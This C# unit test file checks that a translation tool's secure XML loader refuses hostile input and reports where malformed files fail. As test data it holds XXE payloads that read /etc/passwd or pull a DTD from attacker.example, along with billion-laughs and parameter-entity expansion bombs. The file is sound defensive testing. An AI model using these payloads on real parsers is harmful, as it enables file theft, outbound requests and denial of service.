using System.Globalization;
using System.Text;
using System.Xml.Linq;
using TranslationReview.Core.Formats;

namespace TranslationReview.Core.Tests.Formats;

/// <summary>Hostile and broken XML through <see cref="SecureXml.LoadAsync"/>, which every XML format reader uses.</summary>
public class SecureXmlTests
{
    private static Task<XDocument> LoadAsync(byte[] bytes, string fileName = "report.xlf") =>
        SecureXml.LoadAsync(new MemoryStream(bytes), fileName, CancellationToken.None);

    private static Task<XDocument> LoadAsync(string xml, string fileName = "report.xlf") => LoadAsync(Encoding.UTF8.GetBytes(xml), fileName);

    private static async Task<DocumentFormatException> FailsAsync(string xml) =>
        await Assert.ThrowsAsync<DocumentFormatException>(() => LoadAsync(xml));

    [Fact]
    public async Task LoadAsync_ExternalEntity_IsRefusedWithoutReadingTheFile()
    {
        var error = await FailsAsync("""
            <?xml version="1.0"?>
            <!DOCTYPE xliff [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
            <xliff version="1.2"><file><body><trans-unit id="1"><source>&xxe;</source></trans-unit></body></file></xliff>
            """);

        Assert.StartsWith("report.xlf:2:", error.Message, StringComparison.Ordinal);
        Assert.Contains("entity declarations are refused", error.Message, StringComparison.Ordinal);
        Assert.DoesNotContain("root:", error.ToString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task LoadAsync_ExternalParameterEntity_IsRefused()
    {
        var error = await FailsAsync("""
            <?xml version="1.0"?>
            <!DOCTYPE tmx [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>
            <tmx version="1.4"/>
            """);

        Assert.StartsWith("report.xlf:", error.Message, StringComparison.Ordinal);
        Assert.Contains("entit", error.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public async Task LoadAsync_BillionLaughs_IsRefusedWithoutExpanding()
    {
        var entities = new StringBuilder("<!ENTITY lol \"lol\">");
        for (var i = 1; i <= 9; i++)
        {
            entities.Append(CultureInfo.InvariantCulture, $"<!ENTITY lol{i} \"{string.Concat(Enumerable.Repeat(i == 1 ? "&lol;" : $"&lol{i - 1};", 10))}\">");
        }

        var error = await FailsAsync($"<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [{entities}]>\n<lolz>&lol9;</lolz>");

        Assert.StartsWith("report.xlf:2:", error.Message, StringComparison.Ordinal);
        Assert.Contains("expand without bound", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task LoadAsync_ParameterEntityExpansion_StopsAtTheLimit()
    {
        var entities = new StringBuilder("<!ENTITY % a0 \"xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx\">");
        for (var i = 1; i <= 8; i++)
        {
            entities.Append(CultureInfo.InvariantCulture, $"<!ENTITY % a{i} \"{string.Concat(Enumerable.Repeat($"%a{i - 1};", 10))}\">");
        }

        var error = await FailsAsync($"<?xml version=\"1.0\"?>\n<!DOCTYPE x [{entities}%a8;]>\n<x/>");

        Assert.StartsWith("report.xlf:2:", error.Message, StringComparison.Ordinal);
        Assert.Contains("parameter entity", error.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public async Task LoadAsync_ExternalDtd_IsNeverFetched()
    {
        // Real TMX/TBX files name a DTD; it must not be read, so an entity it might declare stays undeclared.
        var error = await FailsAsync("""
            <?xml version="1.0"?>
            <!DOCTYPE martif SYSTEM "file:///etc/passwd">
            <martif>&secret;</martif>
            """);

        Assert.StartsWith("report.xlf:3:", error.Message, StringComparison.Ordinal);
        Assert.Contains("only the five XML entities", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task LoadAsync_InvalidBytesForDeclaredUtf8_NamesPositionAndEncoding()
    {
        // "Привет" in windows-1251 inside a file that declares UTF-8.
        var bytes = Encoding.UTF8.GetBytes("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<tmx version=\"1.4\">\n<seg>")
            .Concat(new byte[] { 0xCF, 0xF0, 0xE8, 0xE2, 0xE5, 0xF2 })
            .Concat(Encoding.UTF8.GetBytes("</seg></tmx>")).ToArray();

        var error = await Assert.ThrowsAsync<DocumentFormatException>(() => LoadAsync(bytes, "memory.tmx"));

        Assert.StartsWith("memory.tmx:3:6: the bytes here are not valid UTF-8, the encoding the file declares", error.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<xliff version=\"1.2\"><file><body></file></xliff>", "report.xlf:1:", "body")]
    [InlineData("<xliff version=\"1.2\">\n  <file>\n    <note>Fish & chips</note>", "report.xlf:3:17:", "write &amp; for an ampersand")]
    [InlineData("<xliff version=\"1.2\">\n  <file>\n", "report.xlf:3:", "not closed: file, xliff")]
    [InlineData("<xliff version=\"1.2\"/>\n<xliff version=\"1.2\"/>", "report.xlf:2:", "not well-formed XML")]
    [InlineData("<?xml version=\"1.0\" encoding=\"klingon\"?><xliff/>", "report.xlf:1:", "unknown encoding")]
    [InlineData("<?xml version=\"1.0\" encodng=\"UTF-8\"?><xliff/>", "report.xlf:1:", "not well-formed XML")]
    [InlineData("<?xml version=\"1.0\"?>\n<!-- nothing else -->", "report.xlf: ", "Root element is missing")]
    public async Task LoadAsync_MalformedXml_FailsWithPosition(string xml, string expectedStart, string expectedReason)
    {
        var error = await FailsAsync(xml);

        Assert.StartsWith(expectedStart, error.Message, StringComparison.Ordinal);
        Assert.Contains(expectedReason, error.Reason, StringComparison.Ordinal);
        Assert.NotEmpty(error.Reason);
    }

    [Fact]
    public async Task LoadAsync_Elements_CarryTheirLineAndColumn()
    {
        var document = await LoadAsync("<tmx version=\"1.4\">\n  <body>\n    <tu tuid=\"7\"/>\n  </body>\n</tmx>");

        var tu = document.Descendants("tu").Single();
        Assert.Equal((3, 6), SecureXml.PositionOf(tu));
        Assert.StartsWith("report.xlf:3:6: ", SecureXml.ErrorAt("report.xlf", tu, "tu without tuv").Message, StringComparison.Ordinal);
    }
}
